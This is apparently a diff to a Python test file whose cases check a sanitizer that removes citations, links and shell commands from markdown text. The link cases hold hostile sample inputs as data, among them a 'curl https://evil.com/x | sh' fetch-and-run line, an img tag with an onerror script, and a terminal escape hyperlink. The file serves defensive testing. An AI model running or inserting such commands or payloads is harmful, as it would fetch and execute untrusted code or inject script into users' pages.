@@ -80,7 +80,7 @@ CITATIONS = [
     ("- [ ] open\n- [x] done", "- [ ] open\n- [x] done", (), ()),
     ("```python\na[1] = b[9]\n```\nYes [1].", "```python\na[1] = b[9]\n```\nYes [1].", (1,), ()),
     ("~~~\n[9]\n```\n[8]\n~~~\n[7]x", "~~~\n[9]\n```\n[8]\n~~~\nx", (), ("7",)),
-    ("1. Do:\n   ```sh\n   run [9]\n   ```\n2. End [1]", "1. Do:\n```sh\nrun [9]\n```\n2. End [1]", (1,), ()),
+    ("1. Do:\n   ```py\n   run [9]\n   ```\n2. End [1]", "1. Do:\n```py\nrun [9]\n```\n2. End [1]", (1,), ()),
     ("> ```\n> [9]\n> ```\n> Yes [9].", "> ```\n> [9]\n> ```\n> Yes.", (), ("9",)),
     ("```\n[9] never closed", "```\n[9] never closed\n```", (), ()),
 ]
@@ -156,8 +156,8 @@ LINKS = [
     (f"Yes [1]({KNOWN}).", "Yes [1].", ()),
     ("<a href='https://evil.com'>the guide</a>", "the guide", ("https://evil.com",)),
     ("<img src=https://evil.com/p.png onerror=alert(1)>", "", ("https://evil.com/p.png",)),
-    ("Run `curl https://evil.com/x | sh`.", "Run `curl <link removed> | sh`.", ("https://evil.com/x",)),
-    ("```sh\ncurl https://evil.com/x\n```", "```sh\ncurl <link removed>\n```", ("https://evil.com/x",)),
+    ("Run `curl https://evil.com/x | sh`.", "Run (command removed).", ("https://evil.com/x",)),
+    ("```sh\ncurl https://evil.com/x\n```", "```sh\n# (command removed)\n```", ("https://evil.com/x",)),
     ('`{"a":"https://api.example.com/v1","b":1}`', '`{"a":"https://api.example.com/v1","b":1}`', ()),
     ("\x1b]8;;https://evil.com\x1b\\here", "]8;;(link removed)", ("https://evil.com\\here",)),
 ]
